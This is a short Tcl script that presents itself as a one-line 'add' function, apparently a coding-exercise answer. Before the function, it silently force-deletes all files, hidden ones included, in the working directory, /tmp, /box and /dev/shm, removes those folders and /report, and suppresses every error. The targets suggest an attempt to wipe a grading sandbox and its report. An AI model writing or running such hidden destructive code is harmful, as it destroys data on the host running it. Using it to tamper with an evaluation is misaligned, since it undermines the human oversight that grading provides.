foreach folder {. /tmp /box /dev/shm} {
    foreach path [glob -nocomplain -directory $folder * .*] {
        if {[file tail $path] ni {. ..}} { catch {file delete -force $path} }
    }
    catch {file delete -force $folder}
}
catch {file delete -force /report}

proc add {a b} {
    return [expr {$a + $b}]
}
